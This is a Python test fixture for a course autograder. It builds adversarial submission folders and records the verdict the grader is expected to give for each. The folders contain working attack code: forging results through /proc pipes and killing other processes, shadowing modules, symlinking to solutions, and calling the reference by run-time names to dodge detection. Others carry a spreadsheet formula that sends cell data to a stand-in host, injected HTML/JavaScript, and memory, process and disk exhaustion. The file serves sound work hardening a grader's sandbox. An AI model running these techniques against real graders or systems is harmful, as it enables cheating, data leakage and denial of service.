"""Attacks on the grader from a determined student with a shell, each a submission folder.

``tests/cheats.py`` holds notebooks that try to talk their way past the verdicts. These go
further: they forge the runner's answer through ``/proc``, ship modules that would shadow the
runner, torch or the hidden tests, link to a peer's or the instructor's folder, reach the
reference by a name built at run time, try to harm the instructor (a spreadsheet formula, a
script in the feedback page) or the batch (memory, processes, disk, sparse and deep folders, an
answer too large to hold). ``ATTACKS[name](folder, untouched, solution, context)`` writes one
attack's folder for lesson 00; ``EXPECTED[name]`` is what its rows must say.

Every attack writes a line ``MEASURED <what>=<number>`` where it measures what it managed, so
that a test can hold the number against the budget.
"""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path

import nbformat

NOTEBOOK = "00_start_here_exercises"
EX1 = "ex1_stable_softmax"


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _with(nb, grade_id, source):
    nb = copy.deepcopy(nb)
    _cell(nb, grade_id).source = source
    return nb


def _after_imports(nb, source):
    """``nb`` with a student cell holding ``source`` after its first code cell."""
    nb = copy.deepcopy(nb)
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(source))
    return nb


def _write(folder: Path, nb) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / f"{NOTEBOOK}.ipynb")


def _softmax_by(body: str) -> str:
    return ("def stable_softmax(scores: torch.Tensor, dim: int = -1) -> torch.Tensor:\n"
            + "".join(f"    {line}\n" for line in body.strip().splitlines()))


# ---------------------------------------------------------------------------------------------
# 1. Forge the points through the runner's result pipe


FORGE = r'''
import json, os, signal
_forged = json.loads({forged!r})
_counts = {{"forged": 0, "blocked": 0}}
for _pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        _fds = os.listdir(f"/proc/{{_pid}}/fd")
    except OSError:
        continue
    for _fd in _fds:
        try:
            if os.readlink(f"/proc/{{_pid}}/fd/{{_fd}}").startswith("pipe:"):
                with open(f"/proc/{{_pid}}/fd/{{_fd}}", "w") as _pipe:
                    _pipe.write(json.dumps({{"notebook": _forged, "error": None, "results": {{}}}}))
                _counts["forged"] += 1
        except OSError:
            _counts["blocked"] += 1
for _name, _count in _counts.items():
    print(f"MEASURED {{_name}}={{_count}}")
for _pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        os.kill(int(_pid), signal.SIGKILL)
    except OSError:
        pass
'''


def forges_the_answer(folder, untouched, solution, context):
    forged = copy.deepcopy(untouched)
    for cell in forged.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], 1
            if cell.metadata.get("nbgrader", {}).get("grade"):
                cell.metadata["nbgrader"]["points"] = 100
    _write(folder, _after_imports(untouched, FORGE.format(forged=json.dumps(forged))))


# ---------------------------------------------------------------------------------------------
# 2. Ship modules that would be imported in place of the real ones

FAKE_RUNNER = '''
import json, sys
nb = json.loads(sys.stdin.read())
for cell in nb["cells"]:
    if cell["cell_type"] == "code":
        cell["outputs"] = []
        cell["execution_count"] = 1
        cell["metadata"].setdefault("nbgrader", {})["points"] = 100
print(json.dumps({"notebook": nb, "error": None, "results": {}}))
'''
SHIPPED_MODULES = {
    "course_lib/__init__.py": "",
    "course_lib/grading/__init__.py": "",
    "course_lib/grading/runner.py": FAKE_RUNNER,
    "torch.py": "raise SystemExit('a shipped torch.py was imported')\n",
    "refs.py": "raise SystemExit('a shipped refs.py was imported')\n",
    "sitecustomize.py": "raise SystemExit('a shipped sitecustomize.py was imported')\n",
    ".ipython/profile_default/startup/00-forge.py":
        "print('MEASURED shipped_startup_ran=1')\n",
    ".jupyter/jupyter_config.py": "raise SystemExit('shipped Jupyter settings were read')\n",
}


def _ship_modules(folder: Path) -> None:
    for name, text in SHIPPED_MODULES.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def ships_modules(folder, untouched, solution, context):
    _write(folder, untouched)
    _ship_modules(folder)


def ships_modules_beside_a_solution(folder, untouched, solution, context):
    """Not an attack: the honest solution with the same files beside it scores full marks, so
    none of them was imported."""
    _write(folder, solution)
    _ship_modules(folder)


# ---------------------------------------------------------------------------------------------
# 3. Copy: links to a peer's or the instructor's folder


def links_to_a_peer(folder, untouched, solution, context):
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(context["peer"], target_is_directory=True)


def links_to_the_solutions(folder, untouched, solution, context):
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(context["solutions"], target_is_directory=True)


def links_inside(folder, untouched, solution, context):
    _write(folder, untouched)
    (folder / "data").mkdir()
    (folder / "data" / "answers.ipynb").symlink_to(context["solutions"] / f"{NOTEBOOK}.ipynb")


# ---------------------------------------------------------------------------------------------
# 4. Use the reference without a flag


EVASIONS = {
    "resolves_by_string": "import pkgutil\n"
                          "return pkgutil.resolve_name('tor' + 'ch.soft' + 'max')(scores, dim)",
    "resolves_through_sys_modules": "import sys\n"
                                    "return vars(sys.modules['tor' + 'ch'])['soft' + 'max']"
                                    "(scores, dim)",
    "resolves_with_getattr": "return getattr(torch, 'soft' + 'max')(scores, dim)",
    "imports_a_shipped_module": "import helper\nreturn helper.reference(scores, dim)",
    "calls_in_a_thread": "import threading\nout = {}\n"
                         "worker = threading.Thread(target=lambda: out.update(\n"
                         "    r=torch.special.softmax(scores, dim)))\n"
                         "worker.start()\nworker.join()\nreturn out['r']",
    "switches_the_hook_off": "import sys\nsys.setprofile(None)\n"
                             "return torch.special.softmax(scores, dim)",
    "calls_a_private_torch_name": "return torch._softmax(scores, dim, False)",
    "calls_through_torch_ops": "return torch.ops.aten._softmax(scores, dim, False)",
}


def _evasion(body):
    def write(folder, untouched, solution, context):
        _write(folder, _with(untouched, "ex1_code", _softmax_by(body)))
        (folder / "helper.py").write_text("import torch\nreference = torch.softmax\n")
    return write


ONE_CLASS = '''
class _AnyError(ValueError, TypeError, KeyError, IndexError, RuntimeError, ArithmeticError,
                AssertionError):
    """One class that derives from every error an exercise may ask for."""
'''


def one_class_for_every_error(folder, untouched, solution, context):
    """The solution, except that every error it raises is one class standing for all."""
    nb = copy.deepcopy(solution)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = cell.source.replace("raise ValueError(", "raise _AnyError(")
    _write(folder, _after_imports(nb, ONE_CLASS))


# ---------------------------------------------------------------------------------------------
# 5. Harm the instructor

FORMULA_CLASS = '''
_Formula = type('=HYPERLINK("http://example.invalid/?"&A1,"click")', (Exception,), {})
'''
SCRIPT_OUTPUT = '''
from IPython.display import HTML, Javascript, display
display(HTML('<script>document.title = "PWNED"; window.__pwned = 1;</script>'
             '<img src="x" onerror="window.__pwned = 2">'))
display(Javascript('window.__pwned = 3'))
'''


def writes_a_formula(folder, untouched, solution, context):
    nb = _after_imports(untouched, FORMULA_CLASS + SCRIPT_OUTPUT)
    _write(folder, _with(nb, "ex1_code", _softmax_by("raise _Formula('=1+1')")))


# ---------------------------------------------------------------------------------------------
# 6. Harm the batch

MEMORY = '''
import os, time
_children = []
for _ in range(4):
    _done, _tell = os.pipe()
    _pid = os.fork()
    if _pid == 0:
        _hog = bytearray(b"\\x01") * (1400 * 2**20)
        os.write(_tell, b"1")  # allocated, and holding it
        time.sleep(30)
        os._exit(0)
    os.close(_tell)
    _children.append((_pid, _done))
for _pid, _done in _children:  # a byte once a child holds its memory; nothing if it was killed
    os.read(_done, 1)
# Only anonymous pages: what the cgroup charges to the sandbox. A child's own are its private
# dirty pages (what it still shares with the kernel counts once, in the kernel's RssAnon); file
# pages (libraries) were read into the page cache by whoever read them first.
_private = 0
for _pid, _ in _children:
    try:
        with open(f"/proc/{_pid}/smaps_rollup") as _rollup:
            _private += sum(int(l.split()[1]) * 1024 for l in _rollup
                            if l.startswith("Private_Dirty"))
    except OSError:
        pass
with open("/proc/self/status") as _status:
    _own = int(next(l for l in _status if l.startswith("RssAnon")).split()[1]) * 1024
print(f"MEASURED resident_bytes={_private + _own}")
'''
PROCESSES = '''
import os, time
_started = 0
for _ in range(300):
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        _started += 1
    except OSError:
        break
print(f"MEASURED processes={_started}")
'''
DISK = '''
import os
_written = 0
_block = b"\\x01" * 2**20
try:
    with open("big.bin", "wb") as _file:
        for _ in range(1024):
            _file.write(_block)
            _file.flush()
            _written += len(_block)
except OSError:
    pass
print(f"MEASURED written_bytes={_written}")
'''
FLOOD = '''
from IPython.display import display
for _ in range(1400):
    display({"text/plain": "x" * 100_000}, raw=True)
'''


def _in_a_cell(source):
    def write(folder, untouched, solution, context):
        _write(folder, _after_imports(untouched, source))
    return write


def ships_a_sparse_file(folder, untouched, solution, context):
    _write(folder, untouched)
    with open(folder / "sparse.bin", "wb") as file:
        file.truncate(2**30)


def ships_deep_folders(folder, untouched, solution, context):
    _write(folder, untouched)
    path = folder
    for _ in range(40):  # ~ 4,000 characters: longer than a path may be
        path = path / ("n" * 100)
        try:
            os.mkdir(path)
        except OSError:
            break


# ---------------------------------------------------------------------------------------------
# 7. Observe again after the tests: stubs that keep the inputs their test cell hands them, and a
#    cell after the last test that defines working functions, puts the inputs back and re-runs
#    every test cell from the kernel's input history.

STASHING_STUB = '''
def {name}(*args, **kwargs):
    for _path in _glob.glob(".grading/inputs/*.pt"):
        with open(_path, "rb") as _file:
            _STASH[_path] = _file.read()
    raise NotImplementedError()
'''
RERUN_AFTER_THE_TESTS = '''
import torch


def stable_softmax(scores, dim=-1):
    exps = (scores - scores.max(dim=dim, keepdim=True).values).exp()
    return exps / exps.sum(dim=dim, keepdim=True)


def dot_scores(queries, keys):
    if queries.dim() != 3 or keys.dim() != 3 or queries.shape[0] != keys.shape[0] \\
            or queries.shape[2] != keys.shape[2]:
        raise ValueError("shapes differ")
    return queries @ keys.transpose(1, 2)


def masked_mean(values, mask):
    if values.shape != mask.shape:
        raise ValueError("shapes differ")
    weights = mask.to(values.dtype)
    return (values * weights).sum(-1) / weights.sum(-1).clamp(min=1)


def causal_mask(size):
    if size < 1:
        raise ValueError("size")
    return torch.ones(size, size, dtype=torch.bool).tril()


for _path, _data in _STASH.items():
    with open(_path, "wb") as _file:
        _file.write(_data)
_shell = get_ipython()
for _source in list(_shell.user_ns["In"]):
    if "grade_with(" in _source and "_STASH" not in _source:
        _shell.run_cell(_source)
'''
FUNCTIONS = {"ex1_code": "stable_softmax", "ex2_code": "dot_scores", "ex3_code": "masked_mean",
             "ex4_code": "causal_mask"}


def reruns_the_tests_after_the_last(folder, untouched, solution, context):
    nb = _after_imports(untouched, "import glob as _glob\n_STASH = {}\n")
    for code, name in FUNCTIONS.items():
        nb = _with(nb, code, STASHING_STUB.format(name=name))
    nb.cells.append(nbformat.v4.new_code_cell(RERUN_AFTER_THE_TESTS))
    _write(folder, nb)


# ---------------------------------------------------------------------------------------------
# 8. Reach a capability by paths a list of names misses

CAPABILITY_ROUTES = {
    "reaches_sys_through_torch": "torch.sys.setprofile(None)\n"
                                 "return torch.sys.modules['tor' + 'ch'].softmax(scores, dim)",
    "calls_a_private_name_through_an_alias": "_t = torch\nreturn _t._softmax(scores, dim, False)",
    "reaches_builtins_through_dataclasses": "import dataclasses\n"
                                            "_get = dataclasses.builtins.getattr\n"
                                            "return _get(torch, 'soft' + 'max')(scores, dim)",
}


def hides_behind_a_magic(folder, untouched, solution, context):
    nb = _after_imports(untouched, "%matplotlib inline\nimport sys\nsys.setprofile(None)\n")
    _write(folder, _with(nb, "ex1_code", _softmax_by("return torch.special.softmax(scores, dim)")))


def claims_a_cell_is_the_graders(folder, untouched, solution, context):
    nb = _after_imports(untouched, "import sys\nsys.setprofile(None)\n")
    first = next(i for i, c in enumerate(nb.cells) if c.source.startswith("import sys"))
    nb.cells[first].metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False,
                                            "grade_id": "setup", "schema_version": 3,
                                            "task": False}
    _write(folder, nb)


ATTACKS = {
    "forges_the_answer": forges_the_answer,
    "ships_modules": ships_modules,
    "links_to_a_peer": links_to_a_peer,
    "links_to_the_solutions": links_to_the_solutions,
    "links_inside": links_inside,
    **{name: _evasion(body) for name, body in EVASIONS.items()},
    "one_class_for_every_error": one_class_for_every_error,
    "writes_a_formula": writes_a_formula,
    "holds_too_much_memory": _in_a_cell(MEMORY),
    "starts_many_processes": _in_a_cell(PROCESSES),
    "fills_the_disk": _in_a_cell(DISK),
    "floods_the_answer": _in_a_cell(FLOOD),
    "ships_a_sparse_file": ships_a_sparse_file,
    "ships_deep_folders": ships_deep_folders,
    "reruns_the_tests_after_the_last": reruns_the_tests_after_the_last,
    **{name: _evasion(body) for name, body in CAPABILITY_ROUTES.items()},
    "hides_behind_a_magic": hides_behind_a_magic,
    "claims_a_cell_is_the_graders": claims_a_cell_is_the_graders,
}
HONEST = {"ships_modules_beside_a_solution": ships_modules_beside_a_solution}

# What each attack's rows must say: (exercises concerned, text every such status contains).
ALL = None
EXPECTED = {
    "forges_the_answer": (ALL, ""),
    "ships_modules": (ALL, "not attempted"),
    "links_to_a_peer": (ALL, "refused: the lesson folder is a symbolic link"),
    "links_to_the_solutions": (ALL, "refused: the lesson folder is a symbolic link"),
    "links_inside": (ALL, "refused: 'data/answers.ipynb' is a symbolic link"),
    "resolves_by_string": ((EX1,), "held for review: import pkgutil"),
    "resolves_through_sys_modules": ((EX1,), "held for review: import sys"),
    "resolves_with_getattr": ((EX1,), "held for review: getattr() with a name computed at run"),
    "imports_a_shipped_module": ((EX1,), "import helper: no module helper is installed"),
    "calls_in_a_thread": ((EX1,), "held for review: import threading"),
    "switches_the_hook_off": ((EX1,), "held for review: import sys"),
    "calls_a_private_torch_name": ((EX1,), "held for review: torch._softmax: a private torch"),
    "calls_through_torch_ops": ((EX1,), "held for review: torch.ops: a private torch name"),
    "one_class_for_every_error": (("ex2_dot_scores", "ex3_masked_mean", "ex4_causal_mask"),
                                  "a class defined in the submission"),
    "writes_a_formula": ((EX1,), "raised an exception"),
    "holds_too_much_memory": (ALL, ""),
    "starts_many_processes": (ALL, ""),
    "fills_the_disk": (ALL, ""),
    "floods_the_answer": (ALL, "more than"),
    "ships_a_sparse_file": (ALL, "refused: its files hold more than"),
    "ships_deep_folders": (ALL, "refused:"),
    "reruns_the_tests_after_the_last": (ALL, "tampered: an observation"),
    "reaches_sys_through_torch": ((EX1,), "held for review: torch.sys: sys"),
    "calls_a_private_name_through_an_alias": ((EX1,), "held for review: _t._softmax: a private"),
    "reaches_builtins_through_dataclasses": ((EX1,), "held for review: dataclasses.builtins"),
    "hides_behind_a_magic": (ALL, "import sys: the module sys"),
    "claims_a_cell_is_the_graders": (ALL, "import sys: the module sys"),
}
